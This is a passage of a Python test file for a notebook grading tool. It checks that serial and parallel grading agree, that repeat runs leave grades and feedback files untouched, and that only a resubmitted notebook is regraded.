        assert issues(serial, student) == issues(course, student), student

    grades = (serial.root / "grades.csv").read_text()
    forced = run_kit(serial, "grade", *LIMITS, "--force")
    assert forced.returncode == 0, forced.stderr
    assert f"{len(students)} submission(s), grading {len(students)} ..." in forced.stdout
    for student in students:
        assert scores(serial, student) == scores(course, student), student
        # Counts of refused attempts and the run's scratch paths differ between runs.
        assert run_free(issues(serial, student)) == run_free(issues(course, student)), student
    assert (serial.root / "grades.csv").read_text() == grades


def test_rerunning_changes_nothing_and_regrades_only_what_changed(graded):
    course, *_ = graded
    feedback = course.root / "feedback"
    before = {p: p.read_bytes() for p in feedback.rglob("*.html")}
    times = {p: p.stat().st_mtime_ns for p in before}
    grades = (course.root / "grades.csv").read_text()
    again = run_kit(course, "grade", *LIMITS)
    assert again.returncode == 0, again.stderr
    students = len(list(course.submitted_dir.iterdir()))
    assert f"submission(s), grading 0, {students} unchanged since last graded" in again.stdout
    assert (course.root / "grades.csv").read_text() == grades
    assert {p: p.read_bytes() for p in feedback.rglob("*.html")} == before
    assert {p: p.stat().st_mtime_ns for p in before} == times

    # bug-unscaled fixes the bug and submits again: only it is graded again.
    fixed = course.submitted_dir / "bug-unscaled" / course.assignment / f"{NOTEBOOK}.ipynb"
    nbformat.write(reference_notebooks(course)[NOTEBOOK], fixed)
    third = run_kit(course, "grade", *LIMITS)
    assert third.returncode == 0, third.stderr
    assert f"submission(s), grading 1, {students - 1} unchanged since last graded" in third.stdout
    assert scores(course, "bug-unscaled") == scores(course, "reference")
    changed = {p for p, t in times.items() if p.stat().st_mtime_ns != t}
    assert changed == {feedback / "bug-unscaled" / course.assignment / f"{NOTEBOOK}.html"}
    with sqlite3.connect(course.gradebook) as db:
        (count,) = db.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone()
    assert count == len(DAMAGE) + 3
